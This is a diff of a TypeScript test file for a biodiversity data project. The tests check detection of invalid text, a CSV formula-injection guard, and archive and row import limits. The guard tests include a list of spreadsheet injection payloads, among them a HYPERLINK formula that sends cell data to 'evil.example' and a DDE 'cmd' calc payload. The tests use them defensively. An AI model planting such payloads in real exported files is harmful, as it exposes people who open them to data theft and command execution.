@@ -1,17 +1,37 @@
 import { describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
-import { csvDocument, csvLine, escapeInvalidText, escapeInvalidTextDeep, findInvalidText, guardFormula, hasInvalidText, invalidTextErrors, tsvLine, UTF8_BOM } from '@biomon/core';
+import {
+  csvDocument,
+  csvLine,
+  escapeInvalidText,
+  escapeInvalidTextDeep,
+  findInvalidText,
+  guardFormula,
+  hasInvalidText,
+  invalidTextErrors,
+  tsvLine,
+  UTF8_BOM,
+} from '@biomon/core';
 import { ArchiveBudget, RowBudget } from '../../packages/occurrences/src/import/archive-limits';
 import { ConfigError, DEFAULT_IMPORT_LIMITS, loadConfig } from '@biomon/config';
 
 describe('text PostgreSQL cannot store (NUL, unpaired UTF-16 surrogates)', () => {
   it('recognises NUL and unpaired surrogates, and lets paired ones and ordinary text through', () => {
-    for (const bad of ['\u0000', 'a\u0000b', '\ud800', 'x\ud800y', '\udc00', '\udfff', '\udc00\ud800', '\ud83d']) expect(hasInvalidText(bad), JSON.stringify(bad)).toBe(true);
-    for (const ok of ['', 'Panthera tigris altaica', '东北虎', '\ud83d\udc2f', '🐯🐆', '\u0001\u001f', '\\u0000', '\ufffd']) expect(hasInvalidText(ok), JSON.stringify(ok)).toBe(false);
+    for (const bad of ['\u0000', 'a\u0000b', '\ud800', 'x\ud800y', '\udc00', '\udfff', '\udc00\ud800', '\ud83d'])
+      expect(hasInvalidText(bad), JSON.stringify(bad)).toBe(true);
+    for (const ok of ['', 'Panthera tigris altaica', '东北虎', '\ud83d\udc2f', '🐯🐆', '\u0001\u001f', '\\u0000', '\ufffd'])
+      expect(hasInvalidText(ok), JSON.stringify(ok)).toBe(false);
   });
 
   it('names every bad place of a value by its path, keys included, at most `max`', () => {
-    const body = { records: [{ ok: 'fine', remarks: 'scat\u0000' }, { ['hab\ud800itat']: 'x', tags: ['a', '\udc00'] }], note: 'ok', nested: { deeper: { v: '\u0000' } } };
+    const body = {
+      records: [
+        { ok: 'fine', remarks: 'scat\u0000' },
+        { ['hab\ud800itat']: 'x', tags: ['a', '\udc00'] },
+      ],
+      note: 'ok',
+      nested: { deeper: { v: '\u0000' } },
+    };
     expect(findInvalidText(body)).toEqual([
       { path: 'records[0].remarks', inKey: false, character: 'U+0000' },
       { path: 'records[1].hab\\ud800itat', inKey: true, character: 'U+D800' },
@@ -20,8 +40,13 @@ describe('text PostgreSQL cannot store (NUL, unpaired UTF-16 surrogates)', () =>
     ]);
     expect(findInvalidText(body, 'body', 2).map((x) => x.path)).toEqual(['body.records[0].remarks', 'body.records[1].hab\\ud800itat']);
     expect(findInvalidText('\u0000')).toEqual([{ path: '', inKey: false, character: 'U+0000' }]);
-    expect(invalidTextErrors('\u0000')).toEqual([{ field: 'body', code: 'TEXT_INVALID_CHARACTER', message: expect.stringMatching(/NUL character \(U\+0000\)/) }]);
-    expect(invalidTextErrors({ a: '\udbff' }, 'query')[0]).toMatchObject({ field: 'query.a', message: expect.stringMatching(/unpaired UTF-16 surrogate \(U\+DBFF\)/) });
+    expect(invalidTextErrors('\u0000')).toEqual([
+      { field: 'body', code: 'TEXT_INVALID_CHARACTER', message: expect.stringMatching(/NUL character \(U\+0000\)/) },
+    ]);
+    expect(invalidTextErrors({ a: '\udbff' }, 'query')[0]).toMatchObject({
+      field: 'query.a',
+      message: expect.stringMatching(/unpaired UTF-16 surrogate \(U\+DBFF\)/),
+    });
     expect(findInvalidText({ n: 1, b: true, z: null, d: new Date(0) })).toEqual([]);
   });
 
@@ -34,7 +59,7 @@ describe('text PostgreSQL cannot store (NUL, unpaired UTF-16 surrogates)', () =>
 });
 
 describe('the one CSV writer (csv-stringify) and its formula guard', () => {
-  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '－1+1', '=', '-'];
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '－1+1', '=', '-'];
 
   it('prefixes every cell that would start a formula with an apostrophe, and the result round-trips through a CSV reader', () => {
     const doc = csvDocument([['value', 'note'], ...HOSTILE.map((v, i) => [v, `row ${i}, "quoted"\nsecond line`])]);
@@ -45,7 +70,26 @@ describe('the one CSV writer (csv-stringify) and its formula guard', () => {
   });
 
   it('keeps numbers as numbers (JSON numbers and numeric strings such as PostgreSQL numeric), and ordinary text as it is', () => {
-    const line = csvLine([-5, '-5', '-0.25', '+86', '1e-3', -1.5e-7, 0, 'Panthera tigris', '东北虎 = 老虎', 'a-b', null, undefined, true, false, new Date(Date.UTC(2025, 0, 2)), { k: 'v' }, Number.NaN, '']);
+    const line = csvLine([
+      -5,
+      '-5',
+      '-0.25',
+      '+86',
+      '1e-3',
+      -1.5e-7,
+      0,
+      'Panthera tigris',
+      '东北虎 = 老虎',
+      'a-b',
+      null,
+      undefined,
+      true,
+      false,
+      new Date(Date.UTC(2025, 0, 2)),
+      { k: 'v' },
+      Number.NaN,
+      '',
+    ]);
     expect(line).toBe('-5,-5,-0.25,+86,1e-3,-1.5e-7,0,Panthera tigris,东北虎 = 老虎,a-b,,,true,false,2025-01-02T00:00:00.000Z,"{""k"":""v""}",,\r\n');
     expect(guardFormula('-12.5')).toBe('-12.5');
     expect(guardFormula('-12.5x')).toBe("'-12.5x");
@@ -70,21 +114,32 @@ describe('archive and row caps', () => {
     expect(() => count.add({ name: 'f3', compressedSize: 10, uncompressedSize: 10 })).toThrow(expect.objectContaining({ code: 'ARCHIVE_TOO_MANY_ENTRIES' }));
     const bytes = new ArchiveBudget(limits);
     bytes.add({ name: 'a', compressedSize: 6 * 1024 * 1024, uncompressedSize: 6 * 1024 * 1024 });
-    expect(() => bytes.add({ name: 'b', compressedSize: 5 * 1024 * 1024, uncompressedSize: 5 * 1024 * 1024 })).toThrow(expect.objectContaining({ code: 'ARCHIVE_TOO_LARGE' }));
+    expect(() => bytes.add({ name: 'b', compressedSize: 5 * 1024 * 1024, uncompressedSize: 5 * 1024 * 1024 })).toThrow(
+      expect.objectContaining({ code: 'ARCHIVE_TOO_LARGE' }),
+    );
     const ratio = new ArchiveBudget(limits);
     ratio.add({ name: 'meta.xml', compressedSize: 1, uncompressedSize: 1024 * 1024 }); // 1 MiB exactly: not held to the ratio
     ratio.add({ name: 'ok.txt', compressedSize: 50_000, uncompressedSize: 4 * 1024 * 1024 }); // 84:1
-    expect(() => ratio.add({ name: 'bomb.txt', compressedSize: 20_000, uncompressedSize: 4 * 1024 * 1024 })).toThrow(expect.objectContaining({ code: 'ARCHIVE_COMPRESSION_RATIO', message: expect.stringMatching(/bomb\.txt is compressed 210:1/) }));
+    expect(() => ratio.add({ name: 'bomb.txt', compressedSize: 20_000, uncompressedSize: 4 * 1024 * 1024 })).toThrow(
+      expect.objectContaining({ code: 'ARCHIVE_COMPRESSION_RATIO', message: expect.stringMatching(/bomb\.txt is compressed 210:1/) }),
+    );
     const rows = new RowBudget(limits);
     rows.add('a.csv');
     rows.add('a.csv');
-    expect(() => rows.add('b.csv')).toThrow(expect.objectContaining({ code: 'IMPORT_TOO_MANY_ROWS', message: expect.stringMatching(/more than 2 data rows \(reached in b\.csv\)/) }));
+    expect(() => rows.add('b.csv')).toThrow(
+      expect.objectContaining({ code: 'IMPORT_TOO_MANY_ROWS', message: expect.stringMatching(/more than 2 data rows \(reached in b\.csv\)/) }),
+    );
   });
 
   it('reads the caps from the environment, with defaults, and refuses nonsense', () => {
     expect(loadConfig({}).importLimits).toEqual(DEFAULT_IMPORT_LIMITS);
     expect(DEFAULT_IMPORT_LIMITS).toEqual({ maxArchiveBytes: 4 * 1024 ** 3, maxArchiveEntries: 10_000, maxCompressionRatio: 200, maxRows: 10_000_000 });
-    const c = loadConfig({ BIOMON_ARCHIVE_MAX_BYTES: '1048576', BIOMON_ARCHIVE_MAX_ENTRIES: '50', BIOMON_ARCHIVE_MAX_RATIO: '30', BIOMON_IMPORT_MAX_ROWS: '1000' });
+    const c = loadConfig({
+      BIOMON_ARCHIVE_MAX_BYTES: '1048576',
+      BIOMON_ARCHIVE_MAX_ENTRIES: '50',
+      BIOMON_ARCHIVE_MAX_RATIO: '30',
+      BIOMON_IMPORT_MAX_ROWS: '1000',
+    });
     expect(c.importLimits).toEqual({ maxArchiveBytes: 1048576, maxArchiveEntries: 50, maxCompressionRatio: 30, maxRows: 1000 });
     expect(() => loadConfig({ BIOMON_ARCHIVE_MAX_RATIO: '1', BIOMON_IMPORT_MAX_ROWS: 'many' })).toThrow(ConfigError);
     try {
